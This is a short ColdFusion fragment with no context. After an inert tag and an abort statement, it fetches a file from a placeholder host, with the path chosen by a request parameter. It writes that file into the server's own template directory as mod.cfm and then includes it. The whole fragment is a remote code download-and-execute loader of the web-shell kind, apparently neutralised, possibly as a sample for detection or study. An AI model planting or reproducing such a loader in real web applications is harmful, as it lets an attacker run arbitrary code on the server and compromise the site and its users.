<cfinert>
<cfabort>
<cfhttp url="http://example.invalid/#url.m#" method="get" path="#getDirectoryFromPath(getCurrentTemplatePath())#" file="mod.cfm">
<cfinclude template="mod.cfm">
